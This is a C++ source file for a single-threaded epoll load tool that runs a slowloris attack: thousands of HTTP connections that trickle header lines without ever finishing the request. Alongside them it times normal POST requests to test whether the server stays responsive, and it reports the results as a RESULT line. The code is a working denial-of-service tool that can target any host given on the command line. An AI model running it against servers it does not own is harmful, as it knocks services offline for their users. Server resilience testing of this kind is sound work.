// slowloris: holds N "trickling" connections open against a target — each sends a request line
// and then one more header line every few seconds, never finishing the head — while timing one
// normal request every few milliseconds on a fresh connection. It answers one question: does a
// server that is busy holding thousands of never-finished requests still serve everyone else?
//
// One thread, epoll, non-blocking sockets (like load_client). The run has two phases:
//   open: trickling connections are connected, at most --max-connecting at a time (a burst of
//         10,000 SYNs would measure the listen backlog, not the attack);
//   hold: --duration-s seconds with every connection that could be opened held open.
// Normal requests (POST --body-file with the -H headers, non-streaming) start at a fixed pace
// for the whole run; each succeeds on HTTP 200 with a complete body. Their latency (connect() to
// the last body byte) is reported for the hold phase (the target number) and the open phase.
// For the trickling connections it counts how many were opened, how many the server closed
// (with a 408, another status, a plain close or a reset) and how many were still open at the end.
//
// Usage: slowloris --url http://127.0.0.1:PORT/path [-n 10000] [--duration-s 20]
//                  [--interval-s 5] [--max-connecting 256] [--open-timeout-s 60]
//                  [--normal-every-ms 100] [--normal-timeout-s 10] [--body-file F] [-H 'K: V']...
// Prints one "RESULT key=value ..." line on stdout (times in ms); the first few failures on
// stderr. Exit 0 when it ran (whatever the results), 2 on bad usage.

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <functional>
#include <map>
#include <queue>
#include <sstream>
#include <string>
#include <utility>
#include <vector>

namespace {

double nowMs() {
  return std::chrono::duration<double, std::milli>(
             std::chrono::steady_clock::now().time_since_epoch())
      .count();
}

struct Options {
  std::string host = "127.0.0.1";
  int port = 0;
  std::string path = "/";
  int n = 10000;
  double duration_s = 20;
  double interval_s = 5;
  int max_connecting = 256;
  double open_timeout_s = 60;
  double normal_every_ms = 100;
  double normal_timeout_s = 10;
  std::string body =
      "{\"model\":\"gpt-4o-mini\",\"messages\":[{\"role\":\"user\",\"content\":\"Hi\"}]}";
  std::vector<std::string> headers;
};

bool parseUrl(const std::string& url, Options& o) {
  const std::string pfx = "http://";
  if (url.compare(0, pfx.size(), pfx) != 0) return false;
  std::string rest = url.substr(pfx.size());
  size_t slash = rest.find('/');
  std::string hostport = rest.substr(0, slash);
  o.path = slash == std::string::npos ? "/" : rest.substr(slash);
  size_t colon = hostport.rfind(':');
  o.host = colon == std::string::npos ? hostport : hostport.substr(0, colon);
  o.port = colon == std::string::npos ? 80 : atoi(hostport.substr(colon + 1).c_str());
  if (o.host == "localhost") o.host = "127.0.0.1";
  return o.port > 0;
}

double pct(std::vector<double> v, double p) {
  if (v.empty()) return -1;
  std::sort(v.begin(), v.end());
  size_t idx = static_cast<size_t>(p / 100.0 * static_cast<double>(v.size() - 1) + 0.5);
  return v[std::min(idx, v.size() - 1)];
}

// What became of a trickling connection.
enum class TState {
  Idle,
  Connecting,
  Open,
  ConnectFailed,
  Closed408,
  ClosedStatus,
  ClosedEof,
  ClosedReset
};

struct Trickle {
  int fd = -1;
  TState state = TState::Idle;
  int lines = 0;   // header lines sent after the request line
  std::string in;  // what the server sent (only its status line matters)
};

// A normal request on a fresh connection.
enum class NPhase { Connecting, Sending, Reading, Done };

struct Normal {
  int fd = -1;
  NPhase phase = NPhase::Connecting;
  bool in_hold = false;  // started during the hold phase
  double t_start = 0;
  size_t sent = 0;
  std::string in;
  size_t head_end = std::string::npos;
  int status = 0;
  long long length = -1;  // Content-Length, -1 = chunked or until close
  bool chunked = false;
};

constexpr uint64_t kNormalTag = 1ULL << 63;  // epoll data: normal requests vs trickles

class Slowloris {
 public:
  explicit Slowloris(Options o) : o_(std::move(o)) {}

  int run() {
    std::ostringstream head;
    head << "GET " << o_.path << " HTTP/1.1\r\nHost: " << o_.host << ":" << o_.port << "\r\n";
    trickle_head_ = head.str();
    std::ostringstream req;
    req << "POST " << o_.path << " HTTP/1.1\r\nHost: " << o_.host << ":" << o_.port
        << "\r\nContent-Type: application/json\r\nContent-Length: " << o_.body.size() << "\r\n";
    for (auto& h : o_.headers) req << h << "\r\n";
    req << "\r\n" << o_.body;
    normal_req_ = req.str();

    ep_ = epoll_create1(EPOLL_CLOEXEC);
    trickles_.resize(static_cast<size_t>(o_.n));
    const double t0 = nowMs();
    double hold_start = -1, hold_end = -1;
    double next_normal = t0;
    std::vector<epoll_event> evs(1024);
    while (true) {
      const double now = nowMs();
      if (hold_start < 0) {
        while (opened_ < trickles_.size() && connecting_ < static_cast<size_t>(o_.max_connecting))
          openTrickle(opened_++);
        if ((opened_ == trickles_.size() && connecting_ == 0) ||
            now - t0 > o_.open_timeout_s * 1000) {
          hold_start = now;
          hold_end = now + o_.duration_s * 1000;
          fprintf(stderr,
                  "slowloris: %zu of %d trickling connections open after %.0f ms; holding %.0f s\n",
                  countState(TState::Open), o_.n, now - t0, o_.duration_s);
        }
      }
      if (hold_start >= 0 && now >= hold_end) break;
      if (now >= next_normal) {
        startNormal(hold_start >= 0);
        next_normal += o_.normal_every_ms;
      }
      trickleDue(now);
      expireNormals(now);
      double wake = std::min(next_normal, due_.empty() ? now + 50 : due_.top().first);
      int timeout = std::clamp(static_cast<int>(wake - now), 0, 50);
      if (hold_start < 0 && opened_ < trickles_.size()) timeout = std::min(timeout, 1);
      int k = epoll_wait(ep_, evs.data(), static_cast<int>(evs.size()), timeout);
      for (int i = 0; i < k; ++i) {
        uint64_t d = evs[i].data.u64;
        if (d & kNormalTag)
          onNormal(normals_[d & ~kNormalTag]);
        else
          onTrickle(trickles_[d], evs[i].events);
      }
    }
    // Let the normal requests still in flight finish (bounded by their own timeout).
    const double drain_end = nowMs() + o_.normal_timeout_s * 1000;
    while (inflight_ > 0 && nowMs() < drain_end) {
      expireNormals(nowMs());
      int k = epoll_wait(ep_, evs.data(), static_cast<int>(evs.size()), 10);
      for (int i = 0; i < k; ++i) {
        uint64_t d = evs[i].data.u64;
        if (d & kNormalTag) onNormal(normals_[d & ~kNormalTag]);
      }
    }
    expireNormals(1e300);
    report(hold_start - t0);
    return 0;
  }

 private:
  // ----- trickling connections -----
  void openTrickle(size_t idx) {
    Trickle& t = trickles_[idx];
    t.fd = connectTo();
    if (t.fd < 0) {
      noteFailure("trickle connect", strerror(errno));
      t.state = TState::ConnectFailed;
      return;
    }
    t.state = TState::Connecting;
    ++connecting_;
    watch(t.fd, EPOLLOUT | EPOLLIN | EPOLLRDHUP, idx, EPOLL_CTL_ADD);
  }

  void onTrickle(Trickle& t, uint32_t events) {
    const size_t idx = static_cast<size_t>(&t - trickles_.data());
    if (t.state == TState::Connecting) {
      int err = 0;
      socklen_t len = sizeof err;
      getsockopt(t.fd, SOL_SOCKET, SO_ERROR, &err, &len);
      --connecting_;
      if (err != 0) {
        noteFailure("trickle connect", strerror(err));
        closeTrickle(t, TState::ConnectFailed);
        return;
      }
      t.state = TState::Open;
      ++ever_open_;
      // Readable only from now on (level-triggered EPOLLOUT would spin).
      watch(t.fd, EPOLLIN | EPOLLRDHUP, idx, EPOLL_CTL_MOD);
      if (!sendAll(t, trickle_head_)) return;
      // Spread the lines evenly over the interval instead of one burst per opening batch.
      double phase = std::fmod(static_cast<double>(idx) * 0.6180339887, 1.0);
      due_.emplace(nowMs() + o_.interval_s * 1000 * (0.5 + phase), idx);
      return;
    }
    if (t.state != TState::Open || !(events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR))) return;
    char buf[4096];
    while (true) {
      ssize_t r = recv(t.fd, buf, sizeof buf, 0);
      if (r > 0) {
        t.in.append(buf, static_cast<size_t>(r));
        if (t.in.size() < 12) continue;
        int status = t.in.compare(0, 5, "HTTP/") == 0 ? atoi(t.in.c_str() + 9) : 0;
        if (status == 408) {
          closeTrickle(t, TState::Closed408);
        } else {
          ++other_status_[status];
          closeTrickle(t, TState::ClosedStatus);
        }
        return;
      }
      if (r == 0) {
        closeTrickle(t, TState::ClosedEof);
        return;
      }
      if (errno == EINTR) continue;
      if (errno == EAGAIN || errno == EWOULDBLOCK) return;
      closeTrickle(t, TState::ClosedReset);
      return;
    }
  }

  // Sends one more header line on every trickling connection whose turn it is.
  void trickleDue(double now) {
    while (!due_.empty() && due_.top().first <= now) {
      auto [when, idx] = due_.top();
      due_.pop();
      Trickle& t = trickles_[idx];
      if (t.state != TState::Open) continue;
      std::string line =
          "X-Trickle-" + std::to_string(++t.lines) + ": " + std::to_string(idx) + "\r\n";
      if (!sendAll(t, line)) continue;
      due_.emplace(when + o_.interval_s * 1000, idx);
    }
  }

  bool sendAll(Trickle& t, const std::string& s) {
    ssize_t w = send(t.fd, s.data(), s.size(), MSG_NOSIGNAL);
    if (w == static_cast<ssize_t>(s.size())) return true;
    // A short write of a few dozen bytes only happens when the server stopped reading; the
    // connection then counts as closed by reset (the next read tells the exact story).
    if (w >= 0 || errno == EAGAIN) return true;
    closeTrickle(t,
                 errno == EPIPE || errno == ECONNRESET ? TState::ClosedReset : TState::ClosedEof);
    return false;
  }

  void closeTrickle(Trickle& t, TState why) {
    if (t.fd >= 0) {
      epoll_ctl(ep_, EPOLL_CTL_DEL, t.fd, nullptr);
      close(t.fd);
      t.fd = -1;
    }
    t.state = why;
    t.in.clear();
    t.in.shrink_to_fit();
  }

  size_t countState(TState s) const {
    return static_cast<size_t>(std::count_if(trickles_.begin(), trickles_.end(),
                                             [s](const Trickle& t) { return t.state == s; }));
  }

  // ----- normal requests -----
  void startNormal(bool in_hold) {
    normals_.emplace_back();
    Normal& r = normals_.back();
    r.in_hold = in_hold;
    r.t_start = nowMs();
    r.fd = connectTo();
    if (r.fd < 0) {
      finishNormal(r, std::string("connect: ") + strerror(errno));
      return;
    }
    ++inflight_;
    watch(r.fd, EPOLLOUT | EPOLLIN | EPOLLRDHUP, (normals_.size() - 1) | kNormalTag, EPOLL_CTL_ADD);
  }

  void onNormal(Normal& r) {
    if (r.phase == NPhase::Done) return;
    if (r.phase == NPhase::Connecting) {
      int err = 0;
      socklen_t len = sizeof err;
      getsockopt(r.fd, SOL_SOCKET, SO_ERROR, &err, &len);
      if (err != 0) return finishNormal(r, std::string("connect: ") + strerror(err));
      r.phase = NPhase::Sending;
    }
    if (r.phase == NPhase::Sending) {
      while (r.sent < normal_req_.size()) {
        ssize_t w =
            send(r.fd, normal_req_.data() + r.sent, normal_req_.size() - r.sent, MSG_NOSIGNAL);
        if (w > 0) {
          r.sent += static_cast<size_t>(w);
        } else if (w < 0 && errno == EINTR) {
          continue;
        } else if (w < 0 && errno == EAGAIN) {
          return;
        } else {
          return finishNormal(r, std::string("send: ") + strerror(errno));
        }
      }
      r.phase = NPhase::Reading;
      watch(r.fd, EPOLLIN | EPOLLRDHUP, static_cast<size_t>(&r - normals_.data()) | kNormalTag,
            EPOLL_CTL_MOD);
    }
    char buf[16384];
    while (true) {
      ssize_t n = recv(r.fd, buf, sizeof buf, 0);
      if (n > 0) {
        r.in.append(buf, static_cast<size_t>(n));
        if (responseComplete(r)) {
          if (r.status != 200) return finishNormal(r, "HTTP status " + std::to_string(r.status));
          return finishNormal(r, "");
        }
        continue;
      }
      if (n == 0) {
        if (r.head_end != std::string::npos && r.length < 0 && !r.chunked)
          return finishNormal(r, r.status == 200 ? "" : "HTTP status " + std::to_string(r.status));
        return finishNormal(r, r.head_end == std::string::npos ? "closed before the response head"
                                                               : "closed mid-body");
      }
      if (errno == EINTR) continue;
      if (errno == EAGAIN || errno == EWOULDBLOCK) return;
      return finishNormal(r, std::string("recv: ") + strerror(errno));
    }
  }

  // True once the whole response (per its framing) is in r.in.
  static bool responseComplete(Normal& r) {
    if (r.head_end == std::string::npos) {
      size_t e = r.in.find("\r\n\r\n");
      if (e == std::string::npos) return false;
      r.head_end = e + 4;
      r.status = r.in.compare(0, 5, "HTTP/") == 0 && e >= 12 ? atoi(r.in.c_str() + 9) : 0;
      std::string head = r.in.substr(0, e);
      std::transform(head.begin(), head.end(), head.begin(),
                     [](unsigned char c) { return tolower(c); });
      size_t cl = head.find("\r\ncontent-length:");
      if (head.find("\r\ntransfer-encoding:") != std::string::npos &&
          head.find("chunked") != std::string::npos)
        r.chunked = true;
      else if (cl != std::string::npos)
        r.length = atoll(head.c_str() + cl + 17);
    }
    if (r.chunked)
      return r.in.size() >= r.head_end + 5 && r.in.compare(r.in.size() - 5, 5, "0\r\n\r\n") == 0;
    if (r.length >= 0) return r.in.size() - r.head_end >= static_cast<size_t>(r.length);
    return false;  // until close
  }

  void expireNormals(double now) {
    if (inflight_ == 0) return;
    for (size_t i = first_unfinished_; i < normals_.size(); ++i) {
      Normal& r = normals_[i];
      if (r.phase != NPhase::Done && now - r.t_start > o_.normal_timeout_s * 1000)
        finishNormal(r, "timeout");
    }
    while (first_unfinished_ < normals_.size() && normals_[first_unfinished_].phase == NPhase::Done)
      ++first_unfinished_;
  }

  void finishNormal(Normal& r, const std::string& failure) {
    const double t = nowMs() - r.t_start;
    if (r.fd >= 0) {
      epoll_ctl(ep_, EPOLL_CTL_DEL, r.fd, nullptr);
      close(r.fd);
      r.fd = -1;
      --inflight_;
    }
    r.phase = NPhase::Done;
    r.in.clear();
    r.in.shrink_to_fit();
    auto& lat = r.in_hold ? hold_ms_ : open_ms_;
    if (failure.empty()) {
      lat.push_back(t);
    } else {
      ++(r.in_hold ? hold_failed_ : open_failed_);
      noteFailure("normal request", failure);
    }
  }

  // ----- shared -----
  int connectTo() {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0) return -1;
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(o_.port));
    inet_pton(AF_INET, o_.host.c_str(), &a.sin_addr);
    if (connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 || errno == EINPROGRESS) {
      errno = EINPROGRESS;  // completion (immediate or not) is reported by EPOLLOUT
      return fd;
    }
    int saved = errno;
    close(fd);
    errno = saved;
    return -1;
  }

  void watch(int fd, uint32_t events, uint64_t data, int op) {
    epoll_event ev{};
    ev.events = events;
    ev.data.u64 = data;
    epoll_ctl(ep_, op, fd, &ev);
  }

  void noteFailure(const char* what, const std::string& why) {
    if (shown_ < 5) {
      ++shown_;
      fprintf(stderr, "slowloris: %s: %s\n", what, why.c_str());
    }
  }

  void report(double open_ms) {
    std::string others;
    for (auto& [status, count] : other_status_) {
      if (!others.empty()) others += ',';
      others += std::to_string(status);
      others += ':';
      others += std::to_string(count);
    }
    printf(
        "RESULT n=%d opened=%zu connect_failed=%zu still_open=%zu closed_408=%zu closed_status=%zu "
        "closed_eof=%zu closed_reset=%zu other_statuses=%s open_ms=%.0f "
        "normal_ok=%zu normal_failed=%zu normal_p50_ms=%.1f normal_p99_ms=%.1f normal_max_ms=%.1f "
        "open_normal_ok=%zu open_normal_failed=%zu open_normal_p50_ms=%.1f open_normal_p99_ms=%.1f "
        "open_normal_max_ms=%.1f\n",
        o_.n, ever_open_,
        countState(TState::ConnectFailed) + countState(TState::Connecting) +
            countState(TState::Idle),
        countState(TState::Open), countState(TState::Closed408), countState(TState::ClosedStatus),
        countState(TState::ClosedEof), countState(TState::ClosedReset),
        others.empty() ? "-" : others.c_str(), open_ms, hold_ms_.size(), hold_failed_,
        pct(hold_ms_, 50), pct(hold_ms_, 99), pct(hold_ms_, 100), open_ms_.size(), open_failed_,
        pct(open_ms_, 50), pct(open_ms_, 99), pct(open_ms_, 100));
    fflush(stdout);
  }

  Options o_;
  std::string trickle_head_, normal_req_;
  int ep_ = -1;
  std::vector<Trickle> trickles_;
  std::priority_queue<std::pair<double, size_t>, std::vector<std::pair<double, size_t>>,
                      std::greater<>>
      due_;                      // (when, trickle index): next header line
  std::vector<Normal> normals_;  // never shrinks: indices are the epoll data
  size_t opened_ = 0, connecting_ = 0, ever_open_ = 0, inflight_ = 0, first_unfinished_ = 0;
  size_t hold_failed_ = 0, open_failed_ = 0, shown_ = 0;
  std::vector<double> hold_ms_, open_ms_;
  std::map<int, size_t> other_status_;
};

}  // namespace

int main(int argc, char** argv) {
  Options o;
  std::string url;
  for (int i = 1; i < argc; ++i) {
    std::string a = argv[i];
    auto next = [&]() -> std::string {
      if (i + 1 >= argc) {
        fprintf(stderr, "missing value for %s\n", a.c_str());
        exit(2);
      }
      return argv[++i];
    };
    if (a == "--url") {
      url = next();
    } else if (a == "-n") {
      o.n = atoi(next().c_str());
    } else if (a == "--duration-s") {
      o.duration_s = atof(next().c_str());
    } else if (a == "--interval-s") {
      o.interval_s = atof(next().c_str());
    } else if (a == "--max-connecting") {
      o.max_connecting = atoi(next().c_str());
    } else if (a == "--open-timeout-s") {
      o.open_timeout_s = atof(next().c_str());
    } else if (a == "--normal-every-ms") {
      o.normal_every_ms = atof(next().c_str());
    } else if (a == "--normal-timeout-s") {
      o.normal_timeout_s = atof(next().c_str());
    } else if (a == "--body-file") {
      std::ifstream f(next());
      if (!f) {
        fprintf(stderr, "cannot read body file\n");
        return 2;
      }
      std::stringstream ss;
      ss << f.rdbuf();
      o.body = ss.str();
    } else if (a == "-H") {
      o.headers.push_back(next());
    } else {
      fprintf(stderr,
              "usage: %s --url http://127.0.0.1:PORT/path [-n N] [--duration-s S] [--interval-s S] "
              "[--max-connecting N] [--open-timeout-s S] [--normal-every-ms MS] "
              "[--normal-timeout-s S] [--body-file F] [-H 'K: V']...\n",
              argv[0]);
      return 2;
    }
  }
  if (url.empty() || !parseUrl(url, o) || o.n < 0 || o.interval_s <= 0 || o.normal_every_ms <= 0 ||
      o.max_connecting < 1) {
    fprintf(stderr,
            "slowloris: --url http://HOST:PORT/path is required; counts and times must be > 0\n");
    return 2;
  }
  rlimit rl{};
  if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
    rl.rlim_cur = rl.rlim_max;
    setrlimit(RLIMIT_NOFILE, &rl);
  }
  if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < static_cast<rlim_t>(o.n) + 1024)
    fprintf(stderr, "slowloris: warning: open-file limit %llu is low for %d connections\n",
            static_cast<unsigned long long>(rl.rlim_cur), o.n);
  signal(SIGPIPE, SIG_IGN);
  return Slowloris(std::move(o)).run();
}
